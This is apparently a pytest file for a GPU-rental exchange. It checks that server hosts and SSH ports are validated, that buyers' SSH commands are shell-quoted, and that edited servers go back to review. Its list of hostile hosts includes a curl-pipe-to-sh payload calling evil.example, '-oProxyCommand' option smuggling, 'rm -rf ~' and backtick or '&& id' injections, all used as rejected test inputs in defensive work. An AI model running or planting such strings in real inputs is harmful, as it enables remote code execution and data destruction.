"""A server's connection (issue 14, item 7): the host is a DNS name or an IP address, the port
1 to 65535, the command a buyer copies is quoted whatever is stored, and changing what an
operator verified sends an active server back to review with its offer withdrawn."""

import shlex
from datetime import UTC, datetime, timedelta

import pytest
from django.utils import translation
from django.utils.html import escape
from django.utils.translation import gettext

from exchange.models import OfferState
from exchange.services import server_activate, server_edit
from exchange.ssh_keys import ssh_connect_command
from sellers.exceptions import ServerInvalid
from sellers.models import Server, ServerStatus
from sellers.services import host_clean, server_register
from tests.factories import (
    GpuModelFactory,
    OfferFactory,
    RentalFactory,
    SellerFactory,
    ServerFactory,
    operator_make,
)
from tests.sellers.support import member, url

pytestmark = pytest.mark.django_db

HOSTILE_HOSTS = [
    "$(curl${IFS}-s${IFS}http://evil.example/x|sh)", "-oProxyCommand=x", "-oProxyCommand=sh.example",
    "`id`.example.com", "gpu1.example.com;rm -rf ~", "gpu1.example.com && id", "root@gpu1.example.com",
    "gpu1.example.com:2222", "gpu1.example.com -p 2222", "gpu 1.example.com", "'gpu1.example.com'",
    "gpu1.example.com\nid", "localhost", "1.2.3", "999.1.1.1", "-gpu.example.com", "gpu-.example.com",
    "gpu..example.com", ".example.com", "a" * 64 + ".example.com", ("a" * 60 + ".") * 5 + "com",
    "fe80::1%eth0", "[2001:db8::1]", "http://gpu1.example.com", "gpu1.example.com/x", "",
]


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("gpu1.example.com", "gpu1.example.com"), (" GPU1.Example.COM. ", "gpu1.example.com"),
        ("münchen.example", "xn--mnchen-3ya.example"), ("203.0.113.10", "203.0.113.10"),
        ("2001:DB8:0::1", "2001:db8::1"), ("h100-01.lis.example.pt", "h100-01.lis.example.pt"),
    ],
)
def test_hosts_are_dns_names_or_ip_addresses(typed, stored):
    assert host_clean(typed) == stored


@pytest.mark.parametrize("host", HOSTILE_HOSTS)
def test_anything_else_is_refused(host):
    with pytest.raises(ValueError):
        host_clean(host)


@pytest.fixture
def seller():
    return SellerFactory()


@pytest.fixture
def client_s(client, seller):
    client.force_login(member(seller))
    return client


def form(gpu, **overrides):
    return {
        "gpu_model": gpu.pk, "gpu_count": "8", "region": "europe", "name": "lis-h100-01",
        "host": "lis-h100-01.example.pt", "ssh_port": "22", **overrides,
    }


@pytest.mark.parametrize("host", HOSTILE_HOSTS[:12])
def test_the_portal_refuses_a_hostile_host_in_the_sellers_language(client_s, seller, host):
    gpu = GpuModelFactory()
    response = client_s.post(url("sellers:portal-server-register", "fr"), form(gpu, host=host))
    assert response.status_code == 200 and not Server.objects.exists()
    with translation.override("fr"):
        message = gettext(
            "Enter a host name such as gpu1.example.com or an IP address such as 203.0.113.10, "
            "without a user, a port or spaces."
        )
    assert escape(message) in response.content.decode()
    server = ServerFactory(seller=seller)
    before = server.host
    client_s.post(url("sellers:portal-server-edit", "fr", server_id=server.pk), form(gpu, host=host))
    server.refresh_from_db()
    assert server.host == before


@pytest.mark.parametrize("port", ["0", "65536", "-22", "٢٢", "２２", "22,5", "1e3", "99999999999999999999"])
def test_the_ssh_port_is_a_number_from_1_to_65535(client_s, port):
    response = client_s.post(url("sellers:portal-server-register"), form(GpuModelFactory(), ssh_port=port))
    assert response.status_code == 200 and not Server.objects.exists()


def test_the_service_stores_the_host_in_its_checked_form(seller):
    server = server_register(seller=seller, gpu_model_id=GpuModelFactory().pk, name="m", gpu_count=1,
                             region="europe", host="München.Example", ssh_port=2222)
    assert server.host == "xn--mnchen-3ya.example"
    with pytest.raises(ServerInvalid) as refused:
        server_register(seller=seller, gpu_model_id=server.gpu_model_id, name="n", gpu_count=1,
                        region="europe", host="-oProxyCommand=x", ssh_port=22)
    assert list(refused.value.errors) == ["host"]


# --- the command the buyer copies ------------------------------------------------------------------

@pytest.mark.parametrize("host", HOSTILE_HOSTS + ["gpu1.example.com", "203.0.113.10"])
def test_the_connect_command_is_one_destination_whatever_the_host(host):
    command = ssh_connect_command(host=host, port=2222, username="evx12")
    assert shlex.split(command) == ["ssh", "-p", "2222", f"evx12@{host}"]


@pytest.mark.parametrize(("username", "port"), [("evx1;id", 22), ("-oProxyCommand", 22), ("Evx1", 22),
                                                ("evx1", 0), ("evx1", 65536), ("evx1", True)])
def test_the_connect_command_refuses_what_the_exchange_never_makes(username, port):
    with pytest.raises(ValueError):
        ssh_connect_command(host="gpu1.example.com", port=port, username=username)


@pytest.mark.parametrize("host", HOSTILE_HOSTS[:4])
def test_the_rental_page_shows_a_quoted_command_for_a_host_stored_before_the_checks(client, host):
    server = ServerFactory(host=host, ssh_port=2200)
    rental = RentalFactory(offer=OfferFactory(server=server), state="running",
                           paid_through=datetime.now(UTC) + timedelta(hours=1))
    client.force_login(rental.buyer)
    html = client.get(url("exchange:rental", "fr", pk=rental.pk)).content.decode()
    shown = html.split('data-testid="ssh-command">')[1].split("</pre>")[0]
    from html import unescape

    assert shlex.split(unescape(shown)) == ["ssh", "-p", "2200", f"{rental.username}@{host}"]


# --- changing what the operator verified -----------------------------------------------------------

@pytest.fixture
def live_server_with_a_rental(seller):
    server = ServerFactory(seller=seller, gpu_count=8, host="old.example.com", ssh_port=22)
    offer = OfferFactory(server=server, gpus_offered=4)
    rental = RentalFactory(offer=offer, gpus=2, state="running",
                           paid_through=datetime.now(UTC) + timedelta(hours=1))
    return server, offer, rental


def fields(server, **overrides):
    data = {
        "name": server.name, "gpu_count": server.gpu_count, "region": server.region, "host": server.host,
        "ssh_port": server.ssh_port, "gpu_model_id": server.gpu_model_id,
    }
    return data | overrides


@pytest.mark.parametrize(
    "change",
    [{"host": "new.example.com"}, {"ssh_port": 2222}, {"region": "north-america"}],
)
def test_a_reviewed_change_sends_the_server_back_to_review(seller, live_server_with_a_rental, change):
    server, offer, rental = live_server_with_a_rental
    edited = server_edit(seller=seller, server_id=server.pk, **fields(server, **change))
    assert edited.status == ServerStatus.PENDING
    offer.refresh_from_db()
    rental.refresh_from_db()
    server.refresh_from_db()
    assert offer.state == OfferState.WITHDRAWN
    assert rental.state == "running" and server.gpus_rented == 2
    server_activate(server_id=server.pk, operator=operator_make("support"))
    server.refresh_from_db()
    assert server.status == ServerStatus.ACTIVE


def test_other_changes_keep_the_server_live(seller, live_server_with_a_rental):
    server, offer, _rental = live_server_with_a_rental
    edited = server_edit(seller=seller, server_id=server.pk, **fields(server, name="renamed", city="Porto",
                                                                      gpu_count=6))
    offer.refresh_from_db()
    assert edited.status == ServerStatus.ACTIVE and offer.state == OfferState.ACTIVE


def test_the_gpu_model_changes_only_without_rented_gpus(seller, live_server_with_a_rental):
    server, offer, rental = live_server_with_a_rental
    other = GpuModelFactory()
    with pytest.raises(ServerInvalid) as refused:
        server_edit(seller=seller, server_id=server.pk, **fields(server, gpu_model_id=other.pk))
    assert refused.value.code == "gpu_model_rented"
    server.refresh_from_db()
    offer.refresh_from_db()
    assert server.gpu_model_id != other.pk and server.status == ServerStatus.ACTIVE
    assert offer.state == OfferState.ACTIVE
    idle = ServerFactory(seller=seller)
    idle_offer = OfferFactory(server=idle)
    edited = server_edit(seller=seller, server_id=idle.pk, **fields(idle, gpu_model_id=other.pk))
    idle_offer.refresh_from_db()
    assert edited.gpu_model_id == other.pk and edited.status == ServerStatus.PENDING
    assert idle_offer.state == OfferState.WITHDRAWN


def test_the_portal_says_the_server_is_back_in_review(client_s, seller, live_server_with_a_rental):
    server, offer, rental = live_server_with_a_rental
    data = form(server.gpu_model, name=server.name, host="new.example.com")
    response = client_s.post(url("sellers:portal-server-edit", "fr", server_id=server.pk), data, follow=True)
    with translation.override("fr"):
        message = gettext(
            "The server is saved. Its connection, region or GPU model changed, so it is pending "
            "verification again: its offer is withdrawn until our operators activate it."
        )
    assert escape(message) in response.content.decode()
    server.refresh_from_db()
    offer.refresh_from_db()
    rental.refresh_from_db()
    assert (server.status, server.host, offer.state, rental.state) == (
        ServerStatus.PENDING, "new.example.com", OfferState.WITHDRAWN, "running"
    )


def test_another_sellers_server_cannot_be_edited(seller, live_server_with_a_rental):
    server, _offer, _rental = live_server_with_a_rental
    from sellers.exceptions import ServerNotFound

    with pytest.raises(ServerNotFound):
        server_edit(seller=SellerFactory(), server_id=server.pk, **fields(server, host="x.example.com"))
    server.refresh_from_db()
    assert server.host == "old.example.com" and server.status == ServerStatus.ACTIVE
